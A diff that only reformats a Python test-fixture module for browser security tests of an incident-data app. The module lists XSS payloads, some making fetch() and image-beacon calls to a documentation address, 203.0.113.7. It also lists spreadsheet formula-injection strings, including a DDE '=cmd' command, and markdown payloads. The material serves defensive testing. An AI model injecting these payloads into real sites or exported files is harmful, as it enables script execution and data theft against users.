@@ -6,6 +6,7 @@ address, never a real host): the browser tests record both, so "nothing ran" is
 something they can see.  Template payloads would print 49, create a marker file, or
 crash a template compiler.  Formula payloads are what a spreadsheet would run.
 """
+
 from __future__ import annotations
 
 import csv
@@ -20,11 +21,11 @@ XSS_PAYLOADS: list[str] = [
     "</script><script>alert(4)</script>",
     "<img src=x onerror=alert(5)>",
     "<IMG SRC=x OnErRoR=alert(6)>",
-    "<img src=x onerror=\"alert(7)\">",
+    '<img src=x onerror="alert(7)">',
     "<img src=http://203.0.113.7/i.png>",
     "<img/src=x/onerror=alert(9)>",
     "<img src=x onerror=alert`10`>",
-    "\"><img src=x onerror=alert(11)>",
+    '"><img src=x onerror=alert(11)>',
     "'><img src=x onerror=alert(12)>",
     "<svg onload=alert(13)>",
     "<svg/onload=alert(14)>",
@@ -33,7 +34,7 @@ XSS_PAYLOADS: list[str] = [
     "<svg><a xlink:href=javascript:alert(17)><text x=20 y=20>x</text></a></svg>",
     "<svg><image href=http://203.0.113.7/svg.png></svg>",
     "<iframe src=javascript:alert(19)></iframe>",
-    "<iframe srcdoc=\"<script>parent.alert(20)</script>\"></iframe>",
+    '<iframe srcdoc="<script>parent.alert(20)</script>"></iframe>',
     "<iframe src=http://203.0.113.7/frame></iframe>",
     "<iframe srcdoc='&lt;img src=x onerror=alert(22)&gt;'></iframe>",
     "<details open ontoggle=alert(23)>",
@@ -56,10 +57,10 @@ XSS_PAYLOADS: list[str] = [
     "<form action=javascript:alert(40)><button>x</button></form>",
     "<math><mtext><img src=x onerror=alert(41)></mtext></math>",
     "<base href=http://203.0.113.7/>",
-    "<meta http-equiv=refresh content=\"0;url=http://203.0.113.7/meta\">",
+    '<meta http-equiv=refresh content="0;url=http://203.0.113.7/meta">',
     "<link rel=stylesheet href=http://203.0.113.7/x.css>",
     "<style>@import 'http://203.0.113.7/i.css';</style>",
-    "<div style=\"background:url(http://203.0.113.7/bg.png)\">x</div>",
+    '<div style="background:url(http://203.0.113.7/bg.png)">x</div>',
     "<table background=http://203.0.113.7/t.png>",
     "<img src=x onerror=confirm(48)>",
     "<img src=x onerror=prompt(49)>",
@@ -69,7 +70,7 @@ XSS_PAYLOADS: list[str] = [
     "<img src=x onerror=parent.alert(53)>",
     "<img src=x onerror=fetch('http://203.0.113.7/f')>",
     "<img src=x onerror=\"new Image().src='http://203.0.113.7/b'\">",
-    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(56)\">",
+    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(56)">',
     "<img src=x onerror=\\u0061lert(57)>",
     "<scr<script>ipt>alert(58)</scr</script>ipt>",
     "<<script>alert(59)//<</script>",
@@ -84,10 +85,10 @@ XSS_PAYLOADS: list[str] = [
     "]]><script>alert(68)</script>",
     "${alert(69)}",
     "`;alert(70);`",
-    "\";alert(71);//",
+    '";alert(71);//',
     "';alert(72);//",
     "<img src=x onerror=alert(73)>\u00a0&nbsp;&lt;b&gt;",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(74)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(74)>">',
     "<keygen autofocus onfocus=alert(75)>",
 ]
 
@@ -111,7 +112,7 @@ FORMULA_PAYLOADS: list[str] = [
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
-    "=HYPERLINK(\"http://203.0.113.7/\",\"click\")",
+    '=HYPERLINK("http://203.0.113.7/","click")',
     "\t=1+1",
     "\r=1+1",
     "=cmd|' /C calc'!A0",
@@ -124,13 +125,45 @@ MARKDOWN_PAYLOADS: list[str] = [
     ":red[alarm] $x^2$ **bold**",
 ]
 
-TEXT_FIELDS = ("incident_id", "actor", "actor2", "associated_actors", "event_type", "location",
-               "admin2", "admin1", "country", "description", "source", "source_url", "geocoder",
-               "matched_name")
-HEADER = ("incident_id", "date", "date_precision", "actor", "actor2", "associated_actors",
-          "event_type", "location", "admin2", "admin1", "country", "latitude", "longitude",
-          "geo_precision", "fatalities", "injured", "description", "source", "source_url",
-          "geocoder", "matched_name")
+TEXT_FIELDS = (
+    "incident_id",
+    "actor",
+    "actor2",
+    "associated_actors",
+    "event_type",
+    "location",
+    "admin2",
+    "admin1",
+    "country",
+    "description",
+    "source",
+    "source_url",
+    "geocoder",
+    "matched_name",
+)
+HEADER = (
+    "incident_id",
+    "date",
+    "date_precision",
+    "actor",
+    "actor2",
+    "associated_actors",
+    "event_type",
+    "location",
+    "admin2",
+    "admin1",
+    "country",
+    "latitude",
+    "longitude",
+    "geo_precision",
+    "fatalities",
+    "injured",
+    "description",
+    "source",
+    "source_url",
+    "geocoder",
+    "matched_name",
+)
 
 
 def with_marker(payloads: list[str], marker: Path) -> list[str]:
@@ -144,11 +177,16 @@ def incident_rows(payloads: list[str], columns: int = 9) -> list[dict[str, str]]
     rows = []
     for number, text in enumerate(payloads):
         row = {field: text for field in TEXT_FIELDS}
-        row.update(incident_id=f"H{number} {text}", date=f"2022-{number % 12 + 1:02d}-15",
-                   date_precision="day",
-                   latitude=f"{33.0 + 0.3 * (number // columns):.2f}",
-                   longitude=f"{67.0 + 0.3 * (number % columns):.2f}",
-                   geo_precision="town", fatalities="", injured="")
+        row.update(
+            incident_id=f"H{number} {text}",
+            date=f"2022-{number % 12 + 1:02d}-15",
+            date_precision="day",
+            latitude=f"{33.0 + 0.3 * (number // columns):.2f}",
+            longitude=f"{67.0 + 0.3 * (number % columns):.2f}",
+            geo_precision="town",
+            fatalities="",
+            injured="",
+        )
         rows.append(row)
     return rows
 
